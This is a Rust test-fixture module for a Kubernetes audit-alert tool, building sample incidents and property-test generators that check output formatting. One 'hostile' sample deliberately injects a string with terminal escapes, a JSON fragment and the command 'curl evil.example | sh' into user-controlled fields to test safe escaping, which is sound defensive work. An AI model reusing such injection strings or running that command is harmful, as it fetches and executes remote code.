//! Incidents to write down in tests: three that were thought up, and any that a generator thinks of.

use std::fs;
use std::path::Path;

use proptest::prelude::*;
use proptest::test_runner::RngSeed;
use serde_json::Value;
use uuid::Uuid;

use super::{Format, Style};
use crate::alert::{
    Action, Activity, Actor, Alert, Bits, Grade, History, Impact, Incident, Peers, Reason, Severity, Signal, Technique,
};
use crate::event::{Outcome, PrincipalKind, Span, Timestamp};
use crate::text::Text;

const CONTAINER_API: Technique = Technique { id: "T1552.007", name: "Container API", tactic: "Credential Access" };
const DISCOVERY: Technique = Technique { id: "T1613", name: "Container and Resource Discovery", tactic: "Discovery" };
const VALID_ACCOUNTS: Technique = Technique { id: "T1078.004", name: "Cloud Accounts", tactic: "Initial Access" };

/// Tuesday, 24 November 2026, 10:15:02.123456 UTC.
const AT: Timestamp = Timestamp(1_795_515_302_123_456);

/// Every sample with the name of its files.
pub(super) fn all() -> [(&'static str, Incident); 3] {
    [("secrets", secrets()), ("hostile", hostile()), ("anonymous", anonymous())]
}

/// A service account that lists secrets where it never was, then pods everywhere.
pub(super) fn secrets() -> Incident {
    let impact = Impact { weight: 80, what: "list secrets across namespaces", technique: CONTAINER_API };
    let list = alert("list", "secrets", "kube-system").signal(
        "new-action",
        impact,
        Reason {
            history: Some(History { requests: 48_210, age: Span::days(14), known: 12 }),
            peers: Some(Peers { doing: 0, of: 37 }),
            ..reason("action", "new action", "list secrets in kube-system")
        },
    );
    let impact = Impact { weight: 30, what: "list pods", technique: DISCOVERY };
    let mut pods = alert("list", "pods", "").signal(
        "new-action",
        impact,
        Reason {
            count: 3,
            history: Some(History { requests: 48_213, age: Span::days(14), known: 13 }),
            ..reason("action", "new action", "list pods cluster-wide")
        },
    );
    (pods.0.at, pods.0.risk) = (Timestamp(AT.0 + 161_000_000), 38);
    pods.0.audit_id = "a5d1c1c4-0d7b-4f0e-9f57-5a3e0a2f6b77".into();
    Incident { events: 4, last: pods.0.at, ..incident(Severity::High, 73, vec![list.0, pods.0]) }
}

/// A client that writes whatever could hurt a terminal, a shell or a parser into all it can choose.
pub(super) fn hostile() -> Incident {
    let evil = "x\u{1b}[2J\u{202e}gnp.exe\r\n{\"severity_id\":1}'; curl evil.example | sh #\u{200b}";
    let impact = Impact { weight: 60, what: "read one secret", technique: CONTAINER_API };
    let shared = Impact { weight: 90, what: "use somebody else's token", technique: VALID_ACCOUNTS };
    let mut get = alert("get", "secrets", "payments")
        .signal(
            "token-shared",
            impact,
            Reason {
                expected: vec!["10.1.2.33".into(), "10.1.2.34".into()],
                grade: Some(Grade::Credential),
                ..reason("token address", "second address for one token", "203.0.113.7")
            },
        )
        .signal("token-agent", shared, reason("token agent", "new agent for one token", evil))
        .0;
    get.action.name = evil.into();
    get.action.path = format!("/api/v1/namespaces/payments/secrets/{evil}").into();
    get.audit_id = evil.into();
    get.user_agent = evil.into();
    get.source_ip = Some([203, 0, 113, 7].into());
    get.actor.impersonated = Some("system:serviceaccount:kube-system:root-ca".into());
    Incident { cluster: evil.into(), ..incident(Severity::Critical, 96, vec![get]) }
}

/// Nobody, on a path that is no resource, without an answer.
pub(super) fn anonymous() -> Incident {
    let impact = Impact { weight: 35, what: "anonymous off the health paths", technique: DISCOVERY };
    let mut get =
        alert("get", "", "").signal("anonymous", impact, reason("path", "anonymous request", "/debug/pprof/")).0;
    get.action.path = "/debug/pprof/".into();
    (get.code, get.outcome, get.risk) = (0, Outcome::Unauthenticated, 35);
    get.source_ip = Some("2001:db8::7".parse().expect("an address"));
    get.actor = Actor { kind: PrincipalKind::Anonymous, credential: None, pod: None, node: None, ..get.actor };
    get.actor.username = "".into();
    let principal = "system:anonymous".into();
    Incident { principal, kind: PrincipalKind::Anonymous, ..incident(Severity::Low, 35, vec![get]) }
}

fn incident(severity: Severity, risk: u8, alerts: Vec<Alert>) -> Incident {
    Incident {
        id: Uuid::from_u128(0x8c6f_2b1e_5d0a_5c3b_9b1d_3f2a_7e4c_6d10),
        cluster: "prod".into(),
        principal: "system:serviceaccount:payments:api".into(),
        kind: PrincipalKind::ServiceAccount,
        related: Vec::new(),
        severity,
        risk,
        first: AT,
        last: AT,
        notifies: severity >= Severity::Medium,
        events: alerts.len() as u64,
        alerts,
        lessons: Vec::new(),
    }
}

/// An alert under construction.
struct Builder(Alert);

fn alert(verb: &str, resource: &str, namespace: &str) -> Builder {
    let path = if namespace.is_empty() { String::new() } else { format!("/namespaces/{namespace}") };
    Builder(Alert {
        at: AT,
        audit_id: "3f1d7b52-8f5e-4f0b-a7c6-0b6d4a0f9c11".into(),
        actor: Actor {
            username: "system:serviceaccount:payments:api".into(),
            kind: PrincipalKind::ServiceAccount,
            credential: Some("JTI=6d0c5a7e-6e0a-4b52-a4b5-1c9d3f8e2a90".into()),
            pod: Some("api-7d9c5b6f4-x2x8k".into()),
            node: Some("node-3".into()),
            impersonated: None,
        },
        action: Action {
            verb: verb.into(),
            group: "".into(),
            resource: resource.into(),
            subresource: "".into(),
            namespace: namespace.into(),
            name: "".into(),
            path: format!("/api/v1{path}/{resource}").into(),
        },
        outcome: Outcome::Allowed,
        code: 200,
        source_ip: Some([10, 1, 2, 33].into()),
        user_agent: "curl/8.5.0".into(),
        signals: Vec::new(),
        risk: 73,
    })
}

impl Builder {
    fn signal(mut self, detector: &'static str, impact: Impact, reason: Reason) -> Self {
        self.0.signals.push(Signal { detector, surprise: Bits(14.23), impact, reason });
        self
    }
}

fn reason(parameter: &'static str, finding: &'static str, observed: &str) -> Reason {
    let (expected, count) = (Vec::new(), 1);
    Reason {
        parameter,
        finding,
        observed: observed.into(),
        expected,
        count,
        measure: None,
        history: None,
        peers: None,
        grade: None,
    }
}

/// The same cases on every run.
pub(super) fn config() -> ProptestConfig {
    ProptestConfig { cases: 64, rng_seed: RngSeed::Fixed(24), failure_persistence: None, ..ProptestConfig::default() }
}

fn any_text() -> impl Strategy<Value = Text> {
    prop_oneof![Just(String::new()), any::<String>(), "\\PC{0,600}", "[\\x00-\\x7f]{0,80}"].prop_map(Text::from)
}

/// Any incident: a sample whose every word and number is somebody's choice.
pub(super) fn any_incident() -> impl Strategy<Value = Incident> {
    let words = prop::collection::vec(any_text(), 20);
    let numbers = (any::<u64>(), any::<f32>(), any::<u16>(), 0..=100_u8, 0..4_000_000_000_000_000_i64);
    (0..3_usize, words, numbers, 1..20_usize).prop_map(|(n, words, (count, bits, code, risk, at), alerts)| {
        let mut words = words.into_iter().cycle();
        let mut word = || words.next().expect("a cycle never ends");
        let (_, mut incident) = all().into_iter().nth(n).expect("three samples");
        (incident.cluster, incident.principal, incident.related) = (word(), word(), vec![word(), word()]);
        (incident.risk, incident.events) = (risk, count);
        (incident.severity, incident.last) = (Severity::of_risk(risk), Timestamp(at));
        let lead = &mut incident.alerts[0];
        (lead.audit_id, lead.user_agent, lead.code, lead.at) = (word(), word(), code, Timestamp(at));
        lead.actor = Actor {
            username: word(),
            credential: Some(word()),
            pod: Some(word()),
            node: Some(word()),
            impersonated: Some(word()),
            ..lead.actor
        };
        let [verb, group, resource, subresource, namespace, name, path] = std::array::from_fn(|_| word());
        lead.action = Action { verb, group, resource, subresource, namespace, name, path };
        for signal in &mut lead.signals {
            signal.surprise = Bits(bits);
            let history = Some(History { requests: count, age: Span(at), known: u32::MAX });
            signal.reason =
                Reason { observed: word(), expected: vec![word()], count, history, ..signal.reason.clone() };
        }
        incident.alerts = vec![incident.lead().clone(); alerts];
        incident
    })
}

/// `incident` as it opens, uncoloured.
pub(super) fn written(format: Format, incident: &Incident) -> String {
    let mut out = Vec::new();
    format.write(incident, Activity::Opened, Style::PLAIN, &mut out).expect("a vector takes everything");
    String::from_utf8(out).expect("UTF-8")
}

/// Compares with what was agreed on in `tests/data/formats`; `BLESS=1` agrees to what is.
pub(super) fn assert_agreed(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/formats").join(name);
    if std::env::var_os("BLESS").is_some() {
        fs::write(&path, actual).expect("the folder can be written");
    }
    let agreed = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(actual, agreed, "{name} differs: look at it, then run with BLESS=1");
}

/// The places of a value that are null.
pub(super) fn nulls(value: &Value) -> Vec<String> {
    let below = |key: &str, value: &Value| nulls(value).into_iter().map(|p| format!("/{key}{p}")).collect::<Vec<_>>();
    match value {
        Value::Null => vec![String::new()],
        Value::Array(values) => values.iter().enumerate().flat_map(|(n, v)| below(&n.to_string(), v)).collect(),
        Value::Object(fields) => fields.iter().flat_map(|(k, v)| below(k, v)).collect(),
        _ => Vec::new(),
    }
}
